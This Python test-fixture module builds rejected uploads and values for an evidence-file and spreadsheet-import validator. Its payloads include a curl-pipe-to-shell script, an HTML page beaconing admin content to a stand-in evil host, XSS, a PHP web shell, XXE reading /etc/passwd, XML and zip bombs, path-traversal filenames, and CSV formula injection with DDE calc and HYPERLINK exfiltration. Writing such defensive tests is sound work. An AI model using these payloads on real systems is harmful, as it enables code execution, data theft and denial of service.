"""Nasty files and values, built in code (no binary blobs in the repository).

Each file is an ``Item``: a label for the test id, the name it is uploaded under, and its bytes.
``EVIDENCE`` are refused as evidence files; ``SPREADSHEETS`` are refused by the imports (as
files, before any row is read); ``NUMBERS`` are values no number field may accept.
"""

from __future__ import annotations

import functools
import io
import struct
import warnings
import zipfile
from dataclasses import dataclass

from openpyxl import Workbook


@dataclass(frozen=True)
class Item:
    label: str
    name: str
    data: bytes

    def __repr__(self) -> str:  # short test ids and failure messages
        return f"<{self.label}: {self.name!r}, {len(self.data):,} bytes>"


# --- building blocks ---------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + struct.pack("<I", 64)
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"PE\x00\x00"
    + bytes(64)
)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64)
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32)
SCRIPT = b"#!/bin/sh\ncurl http://evil.invalid/x | sh\n"
HTML = (
    b"<!DOCTYPE html><html><body><script>fetch('/admin/', {credentials: 'include'})"
    b".then(r => r.text()).then(t => navigator.sendBeacon('//evil.invalid', t))</script>"
    b"</body></html>"
)
JS = b"alert(document.cookie);\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
PHP = b"<?php system($_GET['c']); ?>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an old .doc/.xls, or an encrypted OOXML
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>\n"
)
XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<foo>&xxe;</foo>\n"
)

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
MACRO_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
)


def zip_of(entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression) as package:
        warnings.simplefilter("ignore")  # duplicate names are part of some attacks
        for name, data in entries:
            package.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buffer.getvalue()


@functools.cache
def xlsx(rows: tuple[tuple[object, ...], ...] = (("code", "name"),)) -> bytes:
    """A genuine workbook (openpyxl) with ``rows`` on its first sheet."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def replace_parts(package: bytes, parts: dict[str, bytes], *, extra: tuple = ()) -> bytes:
    """``package`` with some parts' bytes replaced, and ``extra`` (name, bytes) parts added."""
    source = zipfile.ZipFile(io.BytesIO(package))
    entries = [
        (info.filename, parts.get(info.filename, source.read(info))) for info in source.infolist()
    ]
    return zip_of([*entries, *extra])


def docx() -> bytes:
    """The smallest package the evidence checks take for a Word document."""
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("word/document.xml", b"<w:document/>"),
        ]
    )


@functools.cache
def zip_bomb(main_part: str) -> bytes:
    """A package whose ``main_part`` unpacks 100 MB of zeros from about 100 KB (ratio ~1000)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        with package.open(zipfile.ZipInfo(main_part), "w", force_zip64=True) as part:
            chunk = bytes(1024 * 1024)
            for _ in range(100):
                part.write(chunk)
    return buffer.getvalue()


def many_entries(count: int) -> bytes:
    return zip_of(
        [("[Content_Types].xml", CONTENT_TYPES)] + [(f"x/{i}.xml", b"") for i in range(count)]
    )


def lying_end_record(package: bytes, entries: int = 0xFFFE) -> bytes:
    """``package`` whose end-of-directory record claims ``entries`` entries."""
    position = package.rfind(b"PK\x05\x06")
    record = bytearray(package[position:])
    struct.pack_into("<HH", record, 8, entries, entries)
    return package[:position] + bytes(record)


def encrypted_flag(package: bytes) -> bytes:
    """``package`` with every entry marked encrypted (general purpose flag bit 0)."""
    data = bytearray(package)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(signature, start)) >= 0:
            data[found + offset] |= 0x01
            start = found + 4
    return bytes(data)


# --- evidence files: every one is refused --------------------------------------------------------

RLO = "\u202e"  # right-to-left override: "report‮fdp.exe" shows as "reportexe.pdf"


def evidence_items() -> list[Item]:
    good_docx = docx()
    good_xlsx = xlsx()
    return [
        # Programs under a document's name.
        Item("elf-as-pdf", "bao-cao.pdf", ELF),
        Item("elf-as-png", "anh.png", ELF),
        Item("elf-as-docx", "quyet-dinh.docx", ELF),
        Item("pe-as-pdf", "bao-cao.pdf", PE),
        Item("pe-as-jpg", "anh.jpg", PE),
        Item("pe-as-xlsx", "so-lieu.xlsx", PE),
        Item("macho-as-pdf", "bao-cao.pdf", MACH_O),
        Item("java-as-webp", "anh.webp", JAVA_CLASS),
        Item("script-as-pdf", "bao-cao.pdf", SCRIPT),
        Item("pe-named-exe", "setup.exe", PE),
        Item("pe-double-extension", "bao-cao.pdf.exe", PE),
        Item("pe-behind-pdf-extension", "setup.exe.pdf", PE),
        # Web content posing as documents and images.
        Item("html-as-pdf", "bao-cao.pdf", HTML),
        Item("js-as-pdf", "bao-cao.pdf", JS),
        Item("svg-as-png", "anh.png", SVG),
        Item("svg-named-svg", "anh.svg", SVG),
        Item("html-named-html", "trang.html", HTML),
        Item("php-as-jpg", "anh.jpg", PHP),
        Item("xml-bomb-as-pdf", "bao-cao.pdf", BILLION_LAUGHS),
        # One kind under another's name.
        Item("png-as-pdf", "bao-cao.pdf", PNG),
        Item("pdf-as-docx", "quyet-dinh.docx", PDF),
        Item("jpeg-as-png", "anh.png", JPEG),
        Item("zip-as-pdf", "bao-cao.pdf", good_docx),
        Item("xlsx-as-docx", "quyet-dinh.docx", good_xlsx),
        Item("docx-as-xlsx", "so-lieu.xlsx", good_docx),
        Item("ole-as-docx", "quyet-dinh.docx", OLE),
        Item("ole-as-xlsx", "so-lieu.xlsx", OLE),
        Item(
            "macro-workbook-as-xlsx",
            "so-lieu.xlsx",
            zip_of(
                [
                    ("[Content_Types].xml", MACRO_CONTENT_TYPES),
                    ("xl/workbook.xml", b"<workbook/>"),
                ]
            ),
        ),
        # Broken and bombing packages.
        Item("zip-bomb-docx", "quyet-dinh.docx", zip_bomb("word/document.xml")),
        Item("zip-bomb-xlsx", "so-lieu.xlsx", zip_bomb("xl/workbook.xml")),
        Item(
            "xml-bomb-in-content-types",
            "quyet-dinh.docx",
            zip_of(
                [
                    ("[Content_Types].xml", BILLION_LAUGHS),
                    ("word/document.xml", b"<w:document/>"),
                ]
            ),
        ),
        Item(
            "xxe-in-content-types",
            "quyet-dinh.docx",
            zip_of(
                [
                    ("[Content_Types].xml", XXE),
                    ("word/document.xml", b"<w:document/>"),
                ]
            ),
        ),
        Item("too-many-entries", "quyet-dinh.docx", many_entries(2_100)),
        Item("end-record-claims-65534-entries", "quyet-dinh.docx", lying_end_record(good_docx)),
        Item("encrypted-entries", "quyet-dinh.docx", encrypted_flag(good_docx)),
        Item("truncated-zip", "quyet-dinh.docx", good_docx[: len(good_docx) // 2]),
        Item("zip-header-only", "quyet-dinh.docx", b"PK\x03\x04" + bytes(26)),
        Item(
            "duplicate-parts",
            "quyet-dinh.docx",
            zip_of(
                [
                    ("[Content_Types].xml", CONTENT_TYPES),
                    ("word/document.xml", b"<w:document/>"),
                    ("word/document.xml", b"<w:document/>"),
                ]
            ),
        ),
        # Sizes.
        Item("empty", "bao-cao.pdf", b""),
        Item("one-byte", "bao-cao.pdf", b"%"),
        Item("over-the-limit", "bao-cao.pdf", PDF + bytes(10 * 1024 * 1024)),
        # Names (the content is a good PDF: only the name is wrong).
        Item("name-nul", "bao-cao\x00.pdf", PDF),
        Item("name-parent", "../../etc/bao-cao.pdf", PDF),
        Item("name-parent-backslash", "..\\..\\bao-cao.pdf", PDF),
        Item("name-absolute", "/etc/passwd.pdf", PDF),
        Item("name-rtl-override", f"bao-cao{RLO}fdp.exe", PDF),
        Item("name-zero-width", "bao\u200bcao.pdf", PDF),
        Item("name-newline", "bao-cao\r\nX-Evil: 1.pdf", PDF),
        Item("name-too-long", "a" * 300 + ".pdf", PDF),
        Item("name-only-dots", "....pdf", PDF),
        Item("name-dotdot", "..", PDF),
        Item("name-blank", "   ", PDF),
        Item("name-no-extension", "bao-cao", PDF),
        Item("name-extension-only", ".pdf", PDF),
        Item("name-exe", "bao-cao.exe", PDF),
        Item("name-svg", "bao-cao.svg", PDF),
    ]


# --- spreadsheets to import: refused as files ----------------------------------------------------


def spreadsheet_items() -> list[Item]:
    good = xlsx((("code", "name", "block"), ("x", "Y", "quan-thi-xa")))
    return [
        Item("elf-as-csv", "units.csv", ELF),
        Item("pe-as-xlsx", "units.xlsx", PE),
        Item("script-as-csv", "units.csv", SCRIPT),
        Item("pdf-as-csv", "units.csv", PDF),
        Item("pdf-as-xlsx", "units.xlsx", PDF),
        Item("html-as-csv", "units.csv", HTML),
        Item("html-as-xlsx", "units.xlsx", HTML),
        Item("svg-as-csv", "units.csv", SVG),
        Item("xml-bomb-as-csv", "units.csv", BILLION_LAUGHS),
        Item("xls-as-xlsx", "units.xlsx", OLE),
        Item("zip-as-csv", "units.csv", good),
        Item("csv-as-xlsx", "units.xlsx", b"code,name,block\nx,Y,quan-thi-xa\n"),
        Item(
            "zip-bomb-xlsx",
            "units.xlsx",
            replace_parts(good, {}, extra=(("xl/media/zeros.bin", bytes(20 * 1024 * 1024)),)),
        ),
        Item(
            "xml-bomb-in-sheet",
            "units.xlsx",
            replace_parts(
                good,
                {
                    "xl/worksheets/sheet1.xml": BILLION_LAUGHS,
                },
            ),
        ),
        Item("xxe-in-workbook", "units.xlsx", replace_parts(good, {"xl/workbook.xml": XXE})),
        Item(
            "xml-bomb-utf16",
            "units.xlsx",
            replace_parts(
                good,
                {
                    "xl/styles.xml": b"\xff\xfe" + BILLION_LAUGHS.decode().encode("utf-16-le"),
                },
            ),
        ),
        Item(
            "too-many-entries",
            "units.xlsx",
            replace_parts(good, {}, extra=tuple((f"xl/x/{i}.bin", b"") for i in range(1_100))),
        ),
        Item("end-record-claims-65534-entries", "units.xlsx", lying_end_record(good)),
        Item(
            "parent-entry-name",
            "units.xlsx",
            replace_parts(good, {}, extra=(("../../evil.xml", b"<x/>"),)),
        ),
        Item(
            "absolute-entry-name",
            "units.xlsx",
            replace_parts(good, {}, extra=(("/etc/evil.xml", b"<x/>"),)),
        ),
        Item(
            "backslash-entry-name",
            "units.xlsx",
            replace_parts(good, {}, extra=(("..\\evil.xml", b"<x/>"),)),
        ),
        Item(
            "nul-entry-name",
            "units.xlsx",
            replace_parts(good, {}, extra=(("xl/evil\x01.xml", b"<x/>"),)),
        ),
        Item("encrypted-entries", "units.xlsx", encrypted_flag(good)),
        Item("truncated-xlsx", "units.xlsx", good[: len(good) // 2]),
        Item("no-workbook-part", "units.xlsx", zip_of([("[Content_Types].xml", CONTENT_TYPES)])),
        Item("csv-utf16", "units.csv", "code,name,block\nx,Hoàn Kiếm,quan\n".encode("utf-16")),
        Item("csv-utf16-no-bom", "units.csv", "code,name\nx,Hoàn Kiếm\n".encode("utf-16-le")),
        Item("csv-latin1", "units.csv", "code,name,block\nx,Caf\u00e9,quan\n".encode("latin-1")),
        # Windows-1258 (Vietnamese): ê plus a combining acute, as that code page writes "ế".
        Item(
            "csv-cp1258", "units.csv", "code,name,block\nx,Hoàn Kiê\u0301m,quan\n".encode("cp1258")
        ),
        Item("csv-nul-bytes", "units.csv", b"code,name,block\nx,Y\x00,quan\n"),
        Item("csv-huge-field", "units.csv", b"code,name,block\nx," + b"A" * 200_000 + b",quan\n"),
        Item("csv-unterminated-quote", "units.csv", b'code,name,block\nx,"Y,quan\n'),
        Item("csv-too-many-rows", "units.csv", b"code\n" + b"x\n" * 100_002),
        Item("csv-empty", "units.csv", b""),
        Item("name-exe", "units.exe", b"code,name\n"),
        Item("name-no-extension", "units", b"code,name\n"),
        Item("name-xls", "units.xls", OLE),
        Item("over-the-limit", "units.csv", b"code,name\n" + b"x,y\n" * (3 * 1024 * 1024)),
    ]


# --- values no number field may take --------------------------------------------------------------

NOT_NUMBERS = [
    "1e309",
    "-1e309",
    "9e999999999",
    "1e-999999999",
    "NaN",
    "nan",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1" + "0" * 100,  # 10**100
    "1" + "0" * 5000,  # past Python's int() digit limit
    "-1",
    "-5",
    "0x10",
    "²",
    "½",
    "5\x00",
    "\x00",
    "--5",
    "5-",
    "1e3",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "${7*7}",
    "{{7*7}}",
    "%s%s%s%n",
    "９" * 40,  # full-width digits, too many
    " " * 10_000 + "5x",
]
MAYBE_ZERO = ["-0", "-0.0", "+0", "0e999999999"]
DECIMAL_COMMA = "1,5"
"""Vietnamese write 1,5 for 1.5: refused with a message, or read as 1.5, never as 15."""
"""Spellings of zero: accepted as 0 or refused, never stored negative and never a 500."""

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
